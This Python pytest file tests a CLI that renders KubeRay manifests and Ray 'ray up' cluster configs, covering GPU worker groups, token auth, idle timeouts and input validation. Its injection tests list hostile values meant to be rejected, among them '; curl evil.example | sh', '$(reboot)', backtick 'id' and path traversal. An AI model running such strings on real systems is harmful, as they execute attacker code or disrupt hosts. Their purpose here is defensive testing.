"""`heterps cluster render`: the KubeRay manifest and the `ray up` config of a cluster config, checked
structurally, and the `ray up` one by Ray's own validator (offline: schema and the AWS defaults); token
authentication from a Secret, idle timeouts, and a `--nfs` that cannot inject a shell command."""

from __future__ import annotations

import copy
import json
import shlex
from pathlib import Path

import pytest
import yaml

from heterps_ray.cli import main
from heterps_ray.config import load_cluster
from heterps_ray.deploy.render import IDLE_TIMEOUT_S, SHARED_MOUNT, kuberay_manifest, ray_up_config
from heterps_ray.errors import ConfigError

REPO = Path(__file__).resolve().parents[1]
CLOUD = REPO / "configs" / "clusters" / "cloud_gpu.yaml"
LOCAL = REPO / "configs" / "clusters" / "local.yaml"
EC2 = {"cpu": "c5.2xlarge", "t4": "g4dn.xlarge", "v100": "p3.2xlarge", "a100": "p4d.24xlarge"}


def _start_resources(group: dict) -> dict:
    """The custom resources KubeRay passes to `ray start --resources=` (a shell-quoted JSON)."""
    return json.loads(json.loads(group["rayStartParams"]["resources"]))


def test_kuberay_manifest_has_one_worker_group_per_resource_type(tmp_path, capsys):
    out = tmp_path / "raycluster.yaml"
    assert main(["cluster", "render", str(CLOUD), "--kuberay", "-o", str(out)]) == 0
    assert f"wrote {out}: KubeRay RayCluster cloud-gpu" in capsys.readouterr().out
    manifest = yaml.safe_load(out.read_text())
    assert manifest["apiVersion"] == "ray.io/v1" and manifest["kind"] == "RayCluster"
    spec = manifest["spec"]
    assert spec["enableInTreeAutoscaling"] is True and spec["headGroupSpec"]["rayStartParams"]["num-cpus"] == "0"
    groups = {g["groupName"]: g for g in spec["workerGroupSpecs"]}
    assert list(groups) == ["cpu", "t4", "v100", "a100"]
    cluster = load_cluster(CLOUD)
    for rtype in cluster.resource_types:
        group = groups[rtype.name]
        assert _start_resources(group) == {rtype.name: 1}
        assert group["maxReplicas"] == rtype.max_instances
        assert group["minReplicas"] == (cluster.ps.min_shards if rtype.name == "cpu" else 0)  # PS type
        assert group["rayStartParams"]["num-cpus"] == str(int(rtype.ray_resources["CPU"]))
        labels = group["template"]["metadata"]["labels"]
        assert float(labels["heterps.io/price-per-hour"]) == rtype.price_per_hour
        assert labels["heterps.io/resource-type"] == rtype.name
        (container,) = group["template"]["spec"]["containers"]
        assert container["volumeMounts"] == [{"name": "shared", "mountPath": SHARED_MOUNT}]
        if rtype.device == "cuda":
            assert group["rayStartParams"]["num-gpus"] == "1"
            assert container["resources"]["limits"]["nvidia.com/gpu"] == "1"
            assert container["resources"]["requests"]["nvidia.com/gpu"] == "1"  # the pod lands on a GPU node
            assert container["image"].endswith("-gpu")
        else:
            assert "num-gpus" not in group["rayStartParams"] and "nvidia.com/gpu" not in container["resources"]["limits"]
    claims = {v["persistentVolumeClaim"]["claimName"] for g in [spec["headGroupSpec"], *groups.values()]
              for v in g["template"]["spec"]["volumes"]}  # fmt: skip
    assert claims == {"cloud-gpu-shared"}  # one shared volume: data and output_dir on every pod
    assert spec["autoscalerOptions"]["idleTimeoutSeconds"] == IDLE_TIMEOUT_S


def _env(container_or_options: dict) -> dict:
    return {e["name"]: e.get("value", e.get("valueFrom")) for e in container_or_options["env"]}


def test_kuberay_manifest_turns_on_token_auth_from_a_secret(tmp_path, capsys):
    out = tmp_path / "raycluster.yaml"
    argv = ["cluster", "render", str(CLOUD), "--kuberay", "-o", str(out), "--auth-secret", "ray-token.prod"]
    assert main(argv + ["--idle-timeout", "120"]) == 0
    text = out.read_text()
    spec = yaml.safe_load(text)["spec"]
    expected = {"RAY_AUTH_MODE": "token",
                "RAY_AUTH_TOKEN": {"secretKeyRef": {"name": "ray-token.prod", "key": "auth_token"}}}  # fmt: skip
    pods = [spec["headGroupSpec"], *spec["workerGroupSpecs"]]
    containers = [c for pod in pods for c in pod["template"]["spec"]["containers"]]
    assert len(containers) == 5 and all(_env(c) == expected for c in containers)
    assert _env(spec["autoscalerOptions"]) == expected  # the autoscaler sidecar talks to the GCS too
    assert spec["autoscalerOptions"]["idleTimeoutSeconds"] == 120 and spec["enableInTreeAutoscaling"] is True
    assert "&id" not in text  # plain YAML, no anchors a reader has to follow
    # The header says what Secret to create, in the shape the manifest reads.
    assert "#   kubectl create secret generic ray-token.prod --from-literal=auth_token=" in text
    assert "#   stringData: {auth_token: <a long random string>}" in text
    # The default Secret is named after the cluster; a name Kubernetes refuses is refused here.
    head = kuberay_manifest(load_cluster(CLOUD))["spec"]["headGroupSpec"]["template"]["spec"]
    assert _env(head["containers"][0])["RAY_AUTH_TOKEN"]["secretKeyRef"]["name"] == "cloud-gpu-ray-token"
    assert main(["cluster", "render", str(CLOUD), "--kuberay", "--auth-secret", "Prod_Token"]) == 2
    assert "field '--auth-secret'" in capsys.readouterr().err
    with pytest.raises(ConfigError, match="--idle-timeout"):
        kuberay_manifest(load_cluster(CLOUD), idle_timeout_s=-1)


def test_fractional_cpus_round_up_and_names_become_kubernetes_names():
    manifest = kuberay_manifest(load_cluster(LOCAL), pvc="my-claim")
    groups = manifest["spec"]["workerGroupSpecs"]
    assert [g["groupName"] for g in groups] == ["cpu-small", "cpu-big"]  # RFC 1123: no underscores
    assert [_start_resources(g) for g in groups] == [{"cpu_small": 1}, {"cpu_big": 1}]  # Ray's names kept
    assert [g["rayStartParams"]["num-cpus"] for g in groups] == ["1", "1"]  # 0.25 and 0.5 CPU actors
    assert groups[0]["template"]["spec"]["volumes"][0]["persistentVolumeClaim"]["claimName"] == "my-claim"


def test_ray_up_config_passes_rays_validator(tmp_path, capsys):
    from ray.autoscaler._private.util import prepare_config, validate_config

    out = tmp_path / "cluster.yaml"
    argv = ["cluster", "render", str(CLOUD), "--ray-up", "-o", str(out), "--nfs", "fs-1.efs.amazonaws.com:/"]
    argv += [f"--instance-type={name}={ec2}" for name, ec2 in EC2.items()]
    assert main(argv) == 0
    config = yaml.safe_load(out.read_text())
    validate_config(prepare_config(copy.deepcopy(config)))
    nodes = config["available_node_types"]
    assert config["head_node_type"] == "head" and nodes["head"]["resources"] == {"CPU": 0}
    assert nodes["t4"]["resources"] == {"CPU": 4, "GPU": 1, "t4": 1}
    assert nodes["cpu"]["resources"] == {"CPU": 8, "cpu": 1}
    assert nodes["a100"]["node_config"] == {"InstanceType": "p4d.24xlarge"}
    assert [nodes[t]["max_workers"] for t in EC2] == [64, 16, 8, 8]
    assert [nodes[t]["min_workers"] for t in EC2] == [2, 0, 0, 0]  # the PS type from ps.min_shards, others 0
    assert config["idle_timeout_minutes"] == IDLE_TIMEOUT_S // 60
    assert nodes["v100"]["labels"]["heterps.io/price-per-hour"] == "3.06"
    assert config["max_workers"] == 96
    assert any("mount -t nfs4 fs-1.efs.amazonaws.com:/ /mnt/heterps" in c for c in config["initialization_commands"])
    assert f"-v {SHARED_MOUNT}:{SHARED_MOUNT}" in config["docker"]["run_options"]
    # An invalid edit is caught by the same validator: the check is not vacuous.
    broken = copy.deepcopy(config)
    broken["available_node_types"]["t4"]["resources"]["GPU"] = 0.5
    with pytest.raises(Exception, match="0.5"):
        validate_config(prepare_config(broken))


def test_ray_up_without_an_instance_type_per_resource_type_exits_2(capsys):
    assert main(["cluster", "render", str(CLOUD), "--ray-up", "--instance-type", "cpu=c5.2xlarge"]) == 2
    err = capsys.readouterr().err
    assert "--instance-type" in err and "missing ['t4', 'v100', 'a100']" in err
    with pytest.raises(ConfigError, match="unknown"):
        ray_up_config(load_cluster(CLOUD), {**EC2, "h100": "p5.48xlarge"})
    assert main(["cluster", "render", str(CLOUD), "--ray-up", "--instance-type", "cpu"]) == 2


def _ray_up(nfs: str, **kwargs) -> dict:
    return ray_up_config(load_cluster(CLOUD), EC2, nfs=nfs, **kwargs)


@pytest.mark.parametrize(
    "nfs",
    [
        "fs-1.efs.amazonaws.com:/; curl evil.example | sh",  # a command after the export
        "fs-1.efs.amazonaws.com:/$(reboot)",
        "fs-1.efs.amazonaws.com:/`id`",
        "host name:/export",
        "fs-1;reboot:/export",
        "fs-1.efs.amazonaws.com:/a/../../etc",
        "fs-1.efs.amazonaws.com:relative/path",
        "fs-1.efs.amazonaws.com",
        ":/export",
        "-o remount:/export",  # an option to mount, not a host
        "fs-1.efs.amazonaws.com:/x\nreboot",
        "",
    ],
)
def test_an_nfs_value_that_is_not_host_and_export_exits_2(nfs, capsys):
    with pytest.raises(ConfigError, match="field '--nfs'"):
        _ray_up(nfs)
    argv = ["cluster", "render", str(CLOUD), "--ray-up", f"--nfs={nfs}"]
    assert main(argv + [f"--instance-type={name}={ec2}" for name, ec2 in EC2.items()]) == 2
    assert "field '--nfs': expected HOST:/EXPORT" in capsys.readouterr().err


def test_nfs_exports_are_quoted_into_the_mount_command_and_the_idle_timeout_is_kept():
    for nfs in ("10.0.0.5:/exports/heterps", "nfs-1.internal:/srv/data_v2", "[fd00::5]:/export"):
        (mount,) = [c for c in _ray_up(nfs)["initialization_commands"] if "mount -t nfs4" in c]
        assert mount.endswith(f"sudo mount -t nfs4 {shlex.quote(nfs)} {SHARED_MOUNT}")
        assert shlex.split(mount)[-2:] == [nfs, SHARED_MOUNT]  # one word, as written
    assert _ray_up("10.0.0.5:/e", idle_timeout_s=90)["idle_timeout_minutes"] == 1.5
    with pytest.raises(ConfigError, match="--image"):
        ray_up_config(load_cluster(CLOUD), EC2, image="ray:latest; reboot")


def _pods(manifest: dict) -> dict:
    return {g["groupName"]: g["template"]["spec"] for g in manifest["spec"]["workerGroupSpecs"]}


def test_gpu_worker_groups_land_only_on_their_own_gpu_nodes(tmp_path, capsys):
    """An a100 pod cannot land on a T4 node (a nodeSelector per kind) and tolerates GPU nodes' taint;
    the GPU groups run the image given for them (one with a CUDA torch and heterps_ray)."""
    out = tmp_path / "raycluster.yaml"
    argv = ["cluster", "render", str(CLOUD), "--kuberay", "-o", str(out), "--image", "reg.io/heterps:1",
            "--gpu-image", "reg.io/heterps:1-cuda",
            "--node-selector", "t4=cloud.google.com/gke-accelerator=nvidia-tesla-t4"]  # fmt: skip
    assert main(argv) == 0, capsys.readouterr().err
    pods = _pods(yaml.safe_load(out.read_text()))
    toleration = {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}
    assert pods["t4"]["nodeSelector"] == {"cloud.google.com/gke-accelerator": "nvidia-tesla-t4"}
    assert pods["v100"]["nodeSelector"] == {"heterps.io/resource-type": "v100"}
    assert pods["a100"]["nodeSelector"] == {"heterps.io/resource-type": "a100"}
    selectors = [tuple(pods[t]["nodeSelector"].items()) for t in ("t4", "v100", "a100")]
    assert len(set(selectors)) == 3  # no two GPU kinds share a node pool
    for kind in ("t4", "v100", "a100"):
        assert pods[kind]["tolerations"] == [toleration]
        assert pods[kind]["containers"][0]["image"] == "reg.io/heterps:1-cuda"
    assert "nodeSelector" not in pods["cpu"] and "tolerations" not in pods["cpu"]
    assert pods["cpu"]["containers"][0]["image"] == "reg.io/heterps:1"


@pytest.mark.parametrize(
    "argv",
    [["--node-selector", "h100=a=b"], ["--node-selector", "t4"], ["--gpu-image", "img; reboot"]],
    ids=["unknown type", "no label", "bad image"],
)
def test_bad_gpu_placement_options_exit_2(argv, capsys):
    assert main(["cluster", "render", str(CLOUD), "--kuberay", *argv]) == 2
    err = capsys.readouterr().err
    assert ("--node-selector" in err or "--gpu-image" in err) and "Traceback" not in err, err


def test_ray_up_gpu_node_types_run_the_gpu_image():
    config = ray_up_config(load_cluster(CLOUD), EC2, image="reg.io/heterps:1", gpu_image="reg.io/heterps:1-cuda")
    nodes = config["available_node_types"]
    assert nodes["a100"]["docker"] == {"worker_image": "reg.io/heterps:1-cuda"}
    assert "docker" not in nodes["cpu"] and config["docker"]["image"] == "reg.io/heterps:1"
